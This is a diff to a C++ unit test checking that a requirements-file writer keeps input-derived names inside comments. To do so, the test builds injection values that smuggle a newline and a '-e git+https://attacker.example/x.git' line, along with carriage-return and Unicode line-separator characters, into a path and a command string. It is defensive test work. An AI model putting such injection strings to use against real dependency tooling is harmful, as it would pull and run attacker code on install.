@@ -324,7 +324,7 @@ TEST(RequirementsWriter, NamesFromInputStayInTheirComment) {
   Resolution r = sample_resolution();
   for (Pin& p : r.pins)
     for (std::string& v : p.via)
-      if (v == "-r requirements.in") v = "-r evil\n-e git+https://attacker.example/x.git#egg=x\r\x85\u2028.in";
+      if (v == "-r requirements.in") v = "-r evil\n-e git+https://attacker.example/x.git#egg=x\r\u0085\u2028.in";
   LockContext c = sample_context();
   c.command = "thoth lock -r 'evil\n-e git+https://attacker.example/x.git#egg=x\x1b.in'";
   for (auto style : {LockContext::AnnotationStyle::split, LockContext::AnnotationStyle::line}) {
@@ -336,7 +336,9 @@ TEST(RequirementsWriter, NamesFromInputStayInTheirComment) {
       std::string line = out.substr(start, end - start);
       start = end + 1;
       // Whatever the input injected is after a '#' on its line.
-      if (line.find("attacker") != std::string::npos) EXPECT_LT(line.find('#'), line.find("attacker")) << line;
+      if (line.find("attacker") != std::string::npos) {
+        EXPECT_LT(line.find('#'), line.find("attacker")) << line;
+      }
       EXPECT_EQ(line.find('\r'), std::string::npos) << line;
       EXPECT_EQ(line.find("\xC2\x85"), std::string::npos) << line;
       EXPECT_EQ(line.find("\xE2\x80\xA8"), std::string::npos) << line;
